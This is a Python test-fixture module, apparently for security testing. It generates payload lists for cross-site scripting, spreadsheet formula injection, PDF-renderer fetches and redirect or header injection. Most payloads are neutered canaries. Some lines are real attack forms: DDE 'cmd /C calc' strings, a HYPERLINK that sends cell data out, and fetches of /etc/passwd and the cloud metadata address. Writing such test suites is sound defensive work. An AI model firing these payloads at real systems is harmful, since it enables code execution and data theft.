"""Texts that would do something where they are shown: 500 for a page, 30 for a sheet, 50 for a PDF, 40 for an address.

None does harm where it would work: it makes an element `kt-kanarie`, or says in `window.ktkanarie` that it ran.
"""

from __future__ import annotations

from itertools import product

DOE = "window.ktkanarie=1"
#: How to get out of where a text stands.
UITBRAAK = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</select></option>",
    "</script>",
    "</style>",
    "]]>",
    "`>",
    '\\">',
    "&quot;>",
    "</noscript>",
    "</svg>",
    "</template>",
    '" ',
    "' ",
    "--!>",
    "</p></td></tr></table>",
)
#: What runs there.
WERK = (
    "<kt-kanarie>",
    f"<script>{DOE}</script>",
    f"<img src=x onerror={DOE}>",
    f"<svg onload={DOE}>",
    f"<svg/onload={DOE}//",
    f"<body onload={DOE}>",
    f"<iframe srcdoc='<script>parent.{DOE}</script>'>",
    f"<a href=javascript:{DOE}>x</a>",
    f"<details open ontoggle={DOE}>",
    f"<input autofocus onfocus={DOE}>",
    f"onmouseover={DOE} x=",
    f"<math><mi//xlink:href='data:x,<script>{DOE}</script>'>",
    f"<ScRiPt>{DOE}</sCrIpT>",
    f"<scr\0ipt>{DOE}</script>",
    f"<form><button formaction=javascript:{DOE}>x</button></form>",
    f"<object data='data:text/html,<script>{DOE}</script>'>",
    f"<style>@import 'data:text/css,x'</style><kt-kanarie onclick={DOE}>",
    "<base href=//kanarie.invalid/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DOE}'>",
    "<link rel=stylesheet href=//kanarie.invalid/x.css>",
    f"<video><source onerror={DOE}></video>",
    f"<marquee onstart={DOE}>",
    "<div hx-get=/uitloggen hx-trigger=load>",
    f"<kt-kanarie style=animation-name:x onanimationstart={DOE}>",
    "{{kt-kanarie}}<kt-kanarie>${7*7}",
)
XSS = tuple(f"{out}{work}" for out, work in product(UITBRAAK, WERK))

FORMULES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://127.0.0.1/")',
    "=1+1;",
    '=IMPORTXML("http://127.0.0.1/","//a")',
    "@A1",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=A1",
    '+HYPERLINK("http://127.0.0.1/")',
    " =1+1",
    "=",
    "-",
    "+31612345678",
    "@noor",
    '"=1+1"',
    "=1+1\n=2",
    "=\u200b1",
    "=É",
)

#: What a PDF might fetch; `{}` is an address at which somebody listens.
PDF = tuple(
    text
    for where in (
        "{}/a",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/",
        "data:text/css,@import url({}/b)",
        "//{}/c",
    )
    for text in (
        f"<img src='{where}'>",
        f"<link rel=stylesheet href='{where}'>",
        f"<style>@import url('{where}')</style>",
        f"<a rel=attachment href='{where}'>x</a>",
        f"<link rel=attachment href='{where}'>",
        f"<object data='{where}'></object>",
        f"<svg><image href='{where}'/></svg>",
        f"<embed src='{where}'>",
        f"<p style=\"background:url('{where}')\">x</p>",
        f"<base href='{where}'><img src=x.png>",
    )
)

ADRESSEN = (
    "https://kanarie.invalid/",
    "http://kanarie.invalid",
    "//kanarie.invalid",
    "///kanarie.invalid",
    "////kanarie.invalid",
    "/\\kanarie.invalid",
    "\\\\kanarie.invalid",
    "\\/kanarie.invalid",
    "/\t/kanarie.invalid",
    "/\n/kanarie.invalid",
    "http:kanarie.invalid",
    "http:/kanarie.invalid",
    "https:kanarie.invalid/",
    "HtTp://kanarie.invalid",
    "//kanarie.invalid/..",
    "//127.0.0.1@kanarie.invalid/",
    "https://testserver@kanarie.invalid/",
    "https://testserver.kanarie.invalid/",
    "https://kanarie.invalid\\@testserver/",
    "https://kanarie.invalid#@testserver/",
    "https://kanarie.invalid?testserver",
    "//kanarie.invalid%2f..",
    "%2f%2fkanarie.invalid",
    "/%2fkanarie.invalid",
    "/%5ckanarie.invalid",
    "javascript:alert(1)",
    "JaVaScRiPt://testserver/%0aalert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "ftp://kanarie.invalid/",
    "\x01https://kanarie.invalid",
    " https://kanarie.invalid",
    "https://[::ffff:127.0.0.1]/",
    "http://2130706433/",
    "/\r\nLocation: https://kanarie.invalid/",
    "/%0d%0aSet-Cookie:%20kanarie=1",
    "/x\r\nSet-Cookie: kanarie=1",
    "//ⓚanarie.invalid",
    "//kanarie\u3002invalid",
    "https:///kanarie.invalid",
)
